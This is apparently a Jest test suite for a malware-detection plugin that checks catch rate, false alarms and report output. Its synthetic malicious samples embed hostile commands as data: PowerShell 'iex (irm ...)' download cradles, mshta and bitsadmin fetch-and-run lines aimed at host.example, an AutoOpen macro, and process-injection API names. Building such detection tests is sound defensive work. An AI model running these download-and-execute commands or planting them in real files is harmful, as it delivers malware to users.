import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import type { Verdict } from '../../../src/plugin/api.ts';
import { zipOf } from '../../support/eicar.ts';
import { emulationBlade, type TestEmulation } from './blade-support.ts';
import { corpus, macroDocument, program, shortcut, wordDocument, type Sample } from './samples.ts';

const file = (name: string): Record<string, string> => ({
  'content-disposition': `attachment; filename="${name}"`,
});
const made = (name: string, body: Buffer): Sample => ({ name, body, headers: file(name) });
const script = Buffer.from('new ActiveXObject("WScript.Shell").Run("mshta http://host.example/a", 0);');
const cradle = '-w hidden -c "iex (irm http://host.example/l)"';
const injector = ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'IsDebuggerPresent'];

/** Binary samples, made here: none of them holds code. */
const MADE_MALICIOUS: readonly Sample[] = [
  made('script-in-archive.zip', zipOf([{ name: 'Scan_0091.js', data: script }])),
  made('two-endings.zip', zipOf([{ name: 'Invoice.pdf.js', data: script }])),
  made(
    'hidden-command.lnk',
    shortcut({
      target: '..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args: cradle,
      icon: 'C:\\Windows\\System32\\imageres.dll',
      show: 7,
    }),
  ),
  made(
    'padded-command.lnk',
    shortcut({
      target: '..\\..\\Windows\\System32\\cmd.exe',
      args: `${' '.repeat(260)}/c start mshta http://host.example/x`,
      icon: 'report.pdf',
    }),
  ),
  made(
    'shortcut-in-archive.zip',
    zipOf([
      {
        name: 'Report.lnk',
        data: shortcut({
          target: '..\\..\\Windows\\System32\\mshta.exe',
          args: 'https://host.example/r.hta',
          show: 7,
        }),
      },
    ]),
  ),
  made('injector.exe', program(injector, { code: randomBytes(0x2000), writable: true })),
  made(
    'old-macro.xlsm',
    wordDocument([
      {
        name: 'xl/macrosheets/sheet1.xml',
        data: Buffer.from(
          '<xm:macrosheet><c><f>EXEC("powershell -w hidden iex(irm http://host.example/x)")</f></c></xm:macrosheet>',
        ),
      },
    ]),
  ),
  { name: 'gzip-coded.js', body: gzipSync(script), headers: { ...file('a.js'), 'content-encoding': 'gzip' } },
  made(
    'two-modules.doc',
    macroDocument([
      Buffer.from('Attribute VB_Name = "A"\nSub AutoOpen()\n B.Go\nEnd Sub\n'),
      Buffer.from(
        'Attribute VB_Name = "B"\nSub Go()\n Shell "cmd /c bitsadmin /transfer j http://host.example/p.exe %TEMP%\\p.exe"\nEnd Sub\n',
      ),
    ]),
  ),
];

const MADE_BENIGN: readonly Sample[] = [
  made('program.lnk', shortcut({ target: '..\\..\\Windows\\System32\\notepad.exe', args: 'C:\\notes.txt' })),
  made(
    'prompt.lnk',
    shortcut({
      target: '..\\..\\Windows\\System32\\cmd.exe',
      args: '/k "C:\\Program Files\\Tools\\vars.bat"',
      icon: 'C:\\Program Files\\Tools\\tools.exe',
    }),
  ),
  made(
    'debugger.exe',
    program([
      'CreateFileW',
      'ReadFile',
      'WriteFile',
      'ExitProcess',
      'IsDebuggerPresent',
      'WriteProcessMemory',
    ]),
  ),
  made(
    'packed.exe',
    program(['LoadLibraryA', 'GetProcAddress', 'VirtualProtect'], {
      code: randomBytes(0x2000),
      writable: true,
    }),
  ),
  made(
    'sources.zip',
    zipOf([
      { name: 'build.bat', data: Buffer.from('@echo off\r\nnode build.js\r\n') },
      { name: 'index.js', data: Buffer.from('export const answer = 42;') },
    ]),
  ),
  made(
    'letter.docx',
    wordDocument([
      { name: 'word/document.xml', data: Buffer.from('<w:document><w:t>Hello</w:t></w:document>') },
    ]),
  ),
];

/** Libraries as the world ships them. */
const LIBRARIES = [
  'axe-core/axe.min.js',
  'node-forge/dist/forge.min.js',
  'protobufjs/dist/protobuf.min.js',
  'ajv/dist/ajv.min.js',
  'pako/dist/pako.min.js',
  'cfb/dist/cfb.min.js',
  'tldts/dist/index.umd.min.js',
  'js-yaml/dist/js-yaml.min.js',
  'esquery/dist/esquery.min.js',
  'eventemitter3/umd/eventemitter3.min.js',
].map((name): Sample => ({
  name,
  body: readFileSync(new URL(`../../../node_modules/${name}`, import.meta.url)),
  headers: { 'content-type': 'text/javascript' },
}));

const malicious = [...corpus('malicious'), ...MADE_MALICIOUS];
const benign = [...corpus('benign'), ...MADE_BENIGN, ...LIBRARIES];

let emulation: TestEmulation;
const verdicts = new Map<Sample, Verdict>();

beforeAll(async () => {
  emulation = await emulationBlade({ script: { time: '700ms' } });
  for (const one of [...malicious, ...benign])
    verdicts.set(one, await emulation.inspect(one.body, one.headers));
}, 60_000);

afterAll(async () => emulation[Symbol.asyncDispose]());

const missed = (): string[] =>
  malicious.filter((one) => verdicts.get(one)?.kind !== 'block').map(({ name }) => name);
const alarms = (): unknown[] =>
  benign.filter((one) => verdicts.get(one)?.kind === 'block').map((one) => [one.name, verdicts.get(one)]);

describe('the corpus', () => {
  test('has at least 40 malicious and 60 benign samples', () => {
    expect(malicious.length).toBeGreaterThanOrEqual(40);
    expect(benign.length).toBeGreaterThanOrEqual(60);
  });

  test('is caught by 95 % at least, and names what was missed', () => {
    expect({ missed: missed(), enough: missed().length <= malicious.length * 0.05 }).toMatchObject({
      enough: true,
    });
  });

  test('raises no false alarm', () => {
    expect(alarms()).toEqual([]);
  });

  test('counts macros that could not be translated as scanned: they were scored as text', async () => {
    const sample = benign.find(({ name }) => name === 'old-jumps.bas')!;
    expect(verdicts.get(sample)).toEqual({ kind: 'allow' });
    await emulation.inspect(sample.body, sample.headers);
    const { limits, tree } = await emulation.lastReport();
    expect(limits).toEqual([]);
    expect(JSON.stringify(tree)).toMatch(/"fault","what":"could not be run: line \d+, gosub/);
  });

  test('is judged with a reason and the id of a report that is on disk', async () => {
    const reports = emulation.reports();
    for (const one of malicious.slice(0, 10)) {
      const verdict = verdicts.get(one)!;
      const id =
        verdict.kind === 'block' ? /report (te-[0-9a-f]{12})\)$/.exec(verdict.reason)?.[1] : undefined;
      const report = await reports.read(id!);
      expect(report).toMatchObject({
        verdict: 'malicious',
        reasons: expect.any(Array),
        tree: { kind: 'content' },
      });
      expect(report!.score).toBeGreaterThanOrEqual(report!.threshold);
    }
  });
});
